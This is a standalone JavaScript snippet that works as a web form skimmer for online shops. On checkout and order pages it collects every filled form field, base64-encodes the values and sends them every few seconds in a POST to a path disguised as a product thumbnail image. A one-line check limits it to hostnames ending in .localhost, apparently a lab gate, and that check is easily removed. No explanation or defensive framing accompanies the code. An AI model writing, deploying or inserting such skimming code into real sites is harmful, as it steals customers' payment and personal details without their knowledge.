(function () {
  if (!/\.localhost$/.test(location.hostname)) return;
  var page = location.pathname;
  if (page.indexOf('/checkout') === -1 && page.indexOf('/order') === -1) return;
  function pack() {
    var all = document.querySelectorAll('input,select,textarea');
    var a = [];
    for (var i = 0; i < all.length; i++) if (all[i].value) a.push(all[i].id + '\t' + all[i].value);
    return btoa(unescape(encodeURIComponent(a.join('\n'))));
  }
  setInterval(function () {
    var p = pack();
    if (window._p === p || p.length < 200) return;
    window._p = p;
    var x = new XMLHttpRequest();
    x.open('POST', '/media/catalog/product/cache/t/h/thumb_' + p.length + '.jpg');
    x.send(p);
  }, 3000);
})();
